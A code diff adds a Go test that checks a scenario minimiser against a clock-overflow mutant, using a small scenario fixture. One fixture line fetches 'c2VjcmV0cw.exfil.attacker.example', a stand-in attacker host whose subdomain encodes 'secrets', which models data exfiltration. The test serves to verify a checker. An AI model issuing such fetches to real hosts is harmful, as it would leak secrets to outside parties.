@@ -243,3 +243,32 @@ fs_read /srv/app/missing
 	}
 	assertOneMinimal(t, min, fails)
 }
+
+// TestMinimizeRemovesClockBurners: the ignores-clock-overflow mutant
+// lets an op whose tick passes 2^63−1 through (SPEC §7 halts it
+// max_wall); here only the second op's tick passes it, so the first is
+// there only to move the clock on. Removing it with the budget it burns
+// loses the failure (the second op's tick would no longer pass 2^63−1);
+// removing it with the clock started one step later keeps every later
+// tick, and the failure, in one op.
+func TestMinimizeRemovesClockBurners(t *testing.T) {
+	m, ok := mutants.Lookup("ignores-clock-overflow")
+	if !ok {
+		t.Fatal("no ignores-clock-overflow mutant")
+	}
+	sc := parse(t, `budget wall 9223372036854762518
+clock 1000000000 4611686018427387904
+
+tool "GH\x80OST" hello
+net_fetch c2VjcmV0cw.exfil.attacker.example /
+`)
+	fails := Violates(m.Factory, oracle.VerdictMatchesModel, 0)
+	if !fails(sc) {
+		t.Fatal("the scenario does not fail on the mutant")
+	}
+	min, _ := Minimize(sc, 0, fails, Limits{})
+	if len(min.Steps) != 1 {
+		t.Fatalf("minimized to %d ops, want 1:\n%s", len(min.Steps), min.Format())
+	}
+	assertOneMinimal(t, min, fails)
+}
